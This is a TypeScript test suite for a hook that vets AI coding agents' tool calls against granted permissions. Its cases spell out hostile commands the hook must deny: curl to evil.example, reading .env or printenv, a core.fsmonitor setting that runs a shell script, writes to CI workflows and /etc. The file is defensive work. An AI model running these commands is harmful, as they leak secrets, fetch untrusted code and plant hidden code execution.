import assert from "node:assert/strict";
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { startTestIssuer, type TestIssuer } from "./support/oidc-issuer.js";
import { claudeDecision, makeHookWorkspace, runHook } from "./support/run-hook.js";
import { startTestLeash, type TestLeash } from "./support/test-leash.js";

describe("leash hook (the real CLI against a real leash)", () => {
  let issuer: TestIssuer;
  let t: TestLeash;
  let dir: string;
  let ws: string;
  let env: Record<string, string>;
  let capabilityId: string;
  before(async () => {
    issuer = await startTestIssuer();
    t = await startTestLeash({ issuer });
    const exchanged = await t.exchange("editing");
    const capability = String(exchanged.body["access_token"]);
    capabilityId = JSON.parse(
      Buffer.from(capability.split(".")[1] as string, "base64url").toString(),
    ).jti;
    ({ dir, ws, env } = makeHookWorkspace("leash-hooks-", t.url, capability));
    writeFileSync(join(ws, "package.json"), JSON.stringify({ name: "@acme/app" }));
  });
  after(async () => {
    await t.close();
    await issuer.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const pre = (tool_name: string, tool_input: Record<string, unknown>) => ({
    session_id: "s1",
    hook_event_name: "PreToolUse",
    cwd: ws,
    tool_name,
    tool_input,
  });
  const bash = (command: string) => pre("Bash", { command, description: "work on the fix" });

  const claudeCases: {
    name: string;
    input: () => unknown;
    decision: "allow" | "deny";
    code?: string;
  }[] = [
    {
      name: "git push origin HEAD:main",
      input: () => bash("git push origin HEAD:main"),
      decision: "deny",
      code: "protected_branch",
    },
    {
      name: "git push to the job's own branch",
      input: () => bash("git push origin HEAD:refs/heads/agent/fix"),
      decision: "allow",
    },
    {
      name: "a force push",
      input: () => bash("git push -f origin agent/fix"),
      decision: "deny",
      code: "force_push",
    },
    {
      name: "Write to src/a.ts",
      input: () => pre("Write", { file_path: join(ws, "src/a.ts"), content: "x" }),
      decision: "allow",
    },
    {
      name: "Write to .github/workflows/ci.yml",
      input: () =>
        pre("Write", { file_path: join(ws, ".github/workflows/ci.yml"), content: "on: push" }),
      decision: "deny",
      code: "workflow_change_needs_approval",
    },
    {
      name: "Write outside the workspace",
      input: () => pre("Write", { file_path: "/etc/profile.d/agent.sh", content: "x" }),
      decision: "deny",
      code: "outside_workspace",
    },
    {
      name: "git config core.fsmonitor (runs code on a later step's git)",
      input: () => bash('git config core.fsmonitor "sh /tmp/x"'),
      decision: "deny",
      code: "git_config_write",
    },
    {
      name: "echo >&.git/config (a file write, not an fd duplication)",
      input: () => bash("echo '[core] fsmonitor = sh /tmp/x' >&.git/config"),
      decision: "deny",
      code: "git_config_write",
    },
    {
      name: "cp into the workflows directory",
      input: () => bash("cp evil.yml .github/workflows"),
      decision: "deny",
      code: "workflow_change_needs_approval",
    },
    {
      name: "a write to a target named through a variable (unresolved: fails closed)",
      input: () => bash('echo "on: push" > "$D/x.yml"'),
      decision: "deny",
      code: "workflow_change_needs_approval",
    },
    {
      name: "a command echoed into bash",
      input: () => bash("echo 'echo x > .github/workflows/a.yml' | bash"),
      decision: "deny",
      code: "workflow_change_needs_approval",
    },
    {
      name: "ordinary copies and removals",
      input: () => bash("rm -f *.log && cp src/a.ts src/b.ts && npm test"),
      decision: "allow",
    },
    {
      name: "curl https://evil.example",
      input: () => bash("curl -sSL https://evil.example/x"),
      decision: "deny",
      code: "host_not_allowed",
    },
    {
      name: "WebFetch of an unlisted host",
      input: () => pre("WebFetch", { url: "https://evil.example/", prompt: "x" }),
      decision: "deny",
      code: "host_not_allowed",
    },
    {
      name: "npm install left-pad",
      input: () => bash("npm install left-pad && npm test"),
      decision: "allow",
    },
    {
      name: "cat .env",
      input: () => bash("cat .env"),
      decision: "deny",
      code: "secret_not_granted",
    },
    {
      name: "printenv",
      input: () => bash("printenv"),
      decision: "deny",
      code: "secret_not_granted",
    },
    { name: "rm -rf dist", input: () => bash("rm -rf dist && npm run build"), decision: "allow" },
    {
      name: "Read of a source file",
      input: () => pre("Read", { file_path: join(ws, "src/a.ts") }),
      decision: "allow",
    },
    {
      name: "an unknown MCP tool",
      input: () => pre("mcp__jira__create_issue", { title: "x" }),
      decision: "deny",
      code: "tool_not_mapped",
    },
    {
      name: "a GitHub merge that names no base",
      input: () =>
        pre("mcp__github__merge_pull_request", { owner: "acme", repo: "app", pullNumber: 3 }),
      decision: "deny",
      code: "tool_call_incomplete",
    },
    {
      name: "a pull request from the owned branch",
      input: () =>
        pre("mcp__github__create_pull_request", {
          owner: "acme",
          repo: "app",
          head: "agent/fix",
          base: "main",
          title: "Fix",
        }),
      decision: "allow",
    },
    {
      name: "npm publish from the editing zone",
      input: () => bash("npm publish"),
      decision: "deny",
      code: "action_not_granted",
    },
  ];
  for (const c of claudeCases) {
    test(`Claude PreToolUse: ${c.name} → ${c.decision}${c.code ? ` (${c.code})` : ""}`, async () => {
      const { decision, reason } = claudeDecision(await runHook("claude", c.input(), env));
      assert.equal(decision, c.decision, reason);
      if (c.code) assert.ok(reason.includes(`${c.code}:`), reason);
    });
  }

  test("a deny names leash's decision, which is recorded", async () => {
    const { reason } = claudeDecision(
      await runHook("claude", bash("git push origin HEAD:main"), env),
    );
    const id = /decision (dec_[A-Za-z0-9_-]+)/.exec(reason)?.[1];
    assert.ok(id, reason);
    const row = await t.leash.store.getDecision(id);
    assert.equal(row?.result, "deny");
    assert.equal(row?.action, "code.write");
  });

  test("leash unreachable → deny", async () => {
    const run = await runHook("claude", bash("npm test"), {
      ...env,
      LEASH_URL: "http://127.0.0.1:9",
    });
    const { decision, reason } = claudeDecision(run);
    assert.equal(decision, "deny");
    assert.ok(reason.includes("leash_unreachable:"), reason);
  });

  test("an invalid capability (401) → deny", async () => {
    const { decision, reason } = claudeDecision(
      await runHook("claude", bash("npm test"), { ...env, LEASH_CAPABILITY: "x.y.z" }),
    );
    assert.equal(decision, "deny");
    assert.ok(reason.includes("ERR_CAPABILITY_INVALID"), reason);
  });

  test("no capability at all → deny", async () => {
    const { LEASH_CAPABILITY: _, ...rest } = env;
    const { decision } = claudeDecision(await runHook("claude", bash("npm test"), rest));
    assert.equal(decision, "deny");
  });

  test("unreadable hook input → deny", async () => {
    const { decision, reason } = claudeDecision(await runHook("claude", "{not json", env));
    assert.equal(decision, "deny");
    assert.ok(reason.includes("hook_input_invalid:"), reason);
  });

  test("PostToolUse: exit 0, nothing printed, recorded as tool.report", async () => {
    const before = await t.leash.store.queryDecisions({ action: "tool.report", capabilityId });
    const input = {
      ...bash("curl https://evil.example"),
      hook_event_name: "PostToolUse",
      tool_response: {},
    };
    const run = await runHook("claude", input, env);
    assert.equal(run.code, 0);
    assert.equal(run.stdout, "");
    const rows = await t.leash.store.queryDecisions({ action: "tool.report", capabilityId });
    assert.equal(rows.length, before.length + 1);
    assert.equal(rows.at(-1)?.result, "allow");
  });

  test("PermissionRequest: decision.behavior allow / deny", async () => {
    const ask = (command: string) => ({ ...bash(command), hook_event_name: "PermissionRequest" });
    const allow = JSON.parse((await runHook("claude", ask("npm test"), env)).stdout);
    assert.deepEqual(allow, {
      hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } },
    });
    const deny = JSON.parse(
      (await runHook("claude", ask("curl https://evil.example"), env)).stdout,
    );
    assert.equal(deny.hookSpecificOutput.decision.behavior, "deny");
    assert.match(deny.hookSpecificOutput.decision.message, /host_not_allowed/);
  });

  test("Codex: an allow prints nothing, a deny is PreToolUse JSON", async () => {
    const codex = (tool_name: string, tool_input: Record<string, unknown>) => ({
      session_id: "s",
      turn_id: "t",
      hook_event_name: "PreToolUse",
      cwd: ws,
      model: "gpt-5",
      permission_mode: "default",
      tool_name,
      tool_input,
      tool_use_id: "c1",
    });
    const allow = await runHook(
      "codex",
      codex("apply_patch", {
        command: "*** Begin Patch\n*** Add File: src/b.ts\n+x\n*** End Patch",
      }),
      env,
    );
    assert.equal(allow.code, 0);
    assert.equal(allow.stdout, "");
    const deny = await runHook(
      "codex",
      codex("Bash", { command: "git push origin HEAD:main" }),
      env,
    );
    const out = JSON.parse(deny.stdout);
    assert.equal(out.hookSpecificOutput.permissionDecision, "deny");
    assert.match(out.hookSpecificOutput.permissionDecisionReason, /protected_branch/);
  });

  test("Copilot: toolArgs as a JSON string; allow and deny in its flat format", async () => {
    const copilot = (toolName: string, args: unknown) => ({
      timestamp: 1704614600000,
      cwd: ws,
      toolName,
      toolArgs: JSON.stringify(args),
    });
    const allow = JSON.parse(
      (
        await runHook(
          "copilot",
          copilot("bash", { command: "npm test", description: "run tests" }),
          env,
        )
      ).stdout,
    );
    assert.equal(allow.permissionDecision, "allow");
    const deny = JSON.parse(
      (
        await runHook(
          "copilot",
          copilot("edit", { path: join(ws, ".github/workflows/ci.yml") }),
          env,
        )
      ).stdout,
    );
    assert.equal(deny.permissionDecision, "deny");
    assert.match(deny.permissionDecisionReason, /workflow_change_needs_approval/);
    const post = await runHook(
      "copilot",
      { ...copilot("bash", { command: "npm test" }), toolResult: { resultType: "success" } },
      env,
    );
    assert.equal(post.code, 0);
    assert.equal(post.stdout, "");
  });

  test("an unknown agent is a usage error (exit 2: Claude Code and Codex block on it)", async () => {
    const run = await runHook("cursor", bash("npm test"), env);
    assert.equal(run.code, 2);
  });
});
